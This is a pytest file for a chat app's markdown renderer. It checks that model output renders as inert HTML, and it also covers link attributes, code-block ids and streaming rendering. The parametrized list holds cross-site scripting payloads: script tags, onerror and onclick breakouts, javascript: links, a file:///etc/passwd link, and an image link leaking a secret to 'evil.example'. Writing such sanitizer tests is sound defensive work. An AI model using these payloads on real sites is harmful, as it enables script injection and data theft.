"""What a model writes becomes HTML that can do nothing."""

from __future__ import annotations

import pytest

from chat.pages.markdown import rendered, settled


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("[a](javascript:alert(1))", "href"),
        ("[a](JaVaScRiPt:alert(1))", "href"),
        ("[a](data:text/html;base64,AAAA)", "href"),
        ("[a](vbscript:x)", "href"),
        ("[a](/toolboxes/)", "href"),
        ("[a](//evil.example/x)", "href"),
        ("[a](file:///etc/passwd)", "href"),
        ("![a](https://evil.example/x.png?q=secret)", "<img"),
        ("![a](data:image/svg+xml;base64,AAAA)", "<img"),
        ("<javascript:alert(1)>", "href"),
        ('```"onmouseover="alert(1)\nx\n```', 'e="alert'),
        ("[a](https://x.example 't\" onclick=alert(1)')", '" onclick'),
        ("&lt;script&gt;", "<script"),
    ],
)
def test_nothing_of_it_is_run_or_fetched(text: str, never: str) -> None:
    assert never not in rendered(text, "p")


def test_links_lead_out_without_telling_where_from() -> None:
    html = rendered("[a](https://example.org/?a=1&b=2) <mailto:ada@example.org>", "p")
    assert 'href="https://example.org/?a=1&amp;b=2" rel="nofollow noopener noreferrer" target="_blank"' in html
    assert 'href="mailto:ada@example.org"' in html


def test_a_picture_is_named_as_a_link() -> None:
    assert "A chart" in rendered("![A chart](https://example.org/c.png)", "p")


def test_blocks_of_code_have_ids_of_their_own() -> None:
    html = rendered("```\na\n```\n\n    b\n", "run-1")
    assert html.count('id="run-1-code-') == 2
    assert 'data-copy="#run-1-code-2"' in html


def test_deep_nesting_ends() -> None:
    assert len(rendered(">" * 5000 + "a", "p")) < 20_000
    assert rendered("[" * 5000 + "a", "p")


TEXT = """First paragraph
of two lines.

- a list

- that is loose

1. numbered

Text after.

```python
x = 1

y = 2
```

| a | b |
|---|---|
| 1 | 2 |

The end."""


def test_what_is_settled_never_changes_afterwards() -> None:
    """However the text comes: the blocks that were sent as finished, and the rest, are the same as the whole."""
    whole = rendered(TEXT, "p")
    for size in (1, 3, 7, 40):
        shown, done = 0, ""
        for end in range(size, len(TEXT) + size, size):
            text = TEXT[:end]
            more = settled(text[shown:])
            done += rendered(text[shown : shown + more], "p") if more else ""
            shown += more
        assert shown > len(TEXT) // 2
        assert (done + rendered(TEXT[shown:], "p")).replace("p-code-1", "").split() == whole.replace("p-code-1", "").split()


def test_an_open_block_of_code_is_not_settled() -> None:
    assert settled("Text.\n\n```\na\n\nb\n\n") == len("Text.\n\n")
    assert settled("") == 0
